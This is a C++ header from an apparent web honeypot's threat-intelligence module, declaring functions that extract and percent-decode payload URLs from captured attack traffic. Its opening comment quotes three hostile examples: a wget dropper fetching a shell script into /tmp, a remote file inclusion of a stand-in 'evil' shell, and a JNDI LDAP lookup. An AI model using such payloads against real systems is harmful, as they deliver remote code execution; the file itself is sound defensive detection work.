// URLs inside attack payloads: the download locations of RCE droppers ("cd /tmp; wget
// http://198.51.100.200/bins/x86.sh"), remote file inclusions ("?page=http://evil/shell.txt")
// and JNDI lookups ("${jndi:ldap://evil:1389/a}"). These are the most valuable indicators a
// web honeypot sees (MISP type url, category Payload delivery). Pure functions.
#pragma once

#include <cstddef>
#include <string>
#include <string_view>
#include <vector>

namespace drosera::intel {

// The distinct URLs found in `text` once percent-decoded (up to three rounds), in order of
// appearance, at most `max_urls`. Schemes: http, https, ftp, tftp, ldap, ldaps, rmi. A URL
// needs a host that is an IP address or a DNS name; scheme and host are lower-cased; the rest
// is kept as sent (percent-encoded where not printable, see cleanUri). `skip_leading` drops a
// URL at the very start of `text` (an absolute-form request target is not a payload).
std::vector<std::string> findPayloadUrls(std::string_view text, size_t max_urls,
                                         bool skip_leading = false);

// Percent-decodes once ("%2F" -> "/", "+" -> " " when plus_is_space); invalid escapes stay.
std::string percentDecode(std::string_view text, bool plus_is_space);

}  // namespace drosera::intel
